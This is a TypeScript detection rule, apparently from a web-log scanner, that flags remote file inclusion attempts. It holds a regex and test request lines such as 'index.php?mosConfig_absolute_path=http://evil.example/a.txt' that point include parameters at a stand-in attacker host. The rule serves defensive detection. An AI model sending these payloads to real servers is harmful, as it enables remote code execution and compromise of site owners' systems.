import { each } from '../example.ts'
import { defineRule } from '../rule.ts'

export default defineRule({
  id: 'rfi/include-parameter',
  title: 'Include parameter with a remote file',
  why: 'A parameter that scripts use to choose a file to include names a text or script file on another server.',
  ja: {
    title: 'インクルード用パラメーターに外部ファイル',
    why: '読み込むファイルを選ぶためのパラメーターが、他のサーバーのテキストやスクリプトを指しています。',
  },
  severity: 'high',
  stage: 'inject',
  attack: ['T1105', 'T1190'],
  cwe: [98],
  refs: [
    'https://owasp.org/www-project-web-security-testing-guide/latest/4-Web_Application_Security_Testing/07-Input_Validation_Testing/11.2-Testing_for_Remote_File_Inclusion',
    'https://www.php.net/manual/en/features.remote-files.php',
  ],

  where: ['arg'],
  needs: [['=http://', '=https://', '=ftp://', '=ftps://', '= http']],
  match:
    /^(?:mosconfig|globals|_server|_request|_conf|phpbb|config|absolute|abs|basepath|base_path|base_dir|basedir|root|rootpath|root_path|server_base|phpbb_root|dir_|path_|prefix|inc|incl|incs|include|includes|include_path|includedir|inc_dir|lib|libpath|classpath|class_path|template|tpl|skin|theme|lang|language|module|mod|page|pag|file|filepath|load|body|content|main|section|menu|header|footer|cmd|exec|plugin\w*)[\w.[\]]{0,30}=\s?(?:https?|ftps?):\/\/[^\s"&?]{1,300}?(?:\.(?:txt|php\d?|phtml|inc|dat|log|pl|py|cgi|sh|asp|jsp)(?:$|[?#])|\/?\?$|\/$)/i,

  hits: [
    'GET /index.php?mosConfig_absolute_path=http://evil.example/a.txt HTTP/1.1',
    'GET /index.php?page=https://evil.example/run.php HTTP/1.1',
    'GET /index.php?include_path=http://evil.example/? HTTP/1.1',
    ...each(
      'GET /index.php?{}_absolute_path=http://evil.example/a.txt HTTP/1.1',
      `globals _server _request _conf phpbb config abs basepath base_path base_dir basedir root server_base
    dir_ path_ prefix inc lib classpath class_path template tpl skin theme lang mod pag file load body
    content main section menu header footer cmd exec plugin`,
    ),
    'GET /index.php?mosConfig_absolute_path=ftp://evil.example/a.txt HTTP/1.1',
    'GET /index.php?mosConfig_absolute_path=http://evil.example/a/ HTTP/1.1',
    ...each(
      'GET /index.php?mosConfig_absolute_path=http://evil.example/a.{} HTTP/1.1',
      'phtml inc dat log pl py cgi sh asp jsp',
    ),
    'GET /index.php?mosConfig_absolute_path=ftps://evil.example/a.txt HTTP/1.1',
    'GET /a.php?page=+http://203.0.113.9/a.txt HTTP/1.1',
  ],
  misses: [
    'GET /share?url=https://news.example/story.php HTTP/1.1',
    'GET /view?file=https://cdn.example/report.pdf HTTP/1.1',
    'GET /player?content=https://cdn.example/film.mp4 HTTP/1.1',
    { message: 'mosConfig_absolute_path=http://evil.example/a.txt' },
    'GET /index.php?mymosConfig_absolute_path=http://evil.example/a.txt HTTP/1.1',
    'GET /index.php?mosConfig_absolute_path=http://evil.example/a.txts HTTP/1.1',
    'GET /index.php?include_path=http://evil.example/?s HTTP/1.1',
  ],
})
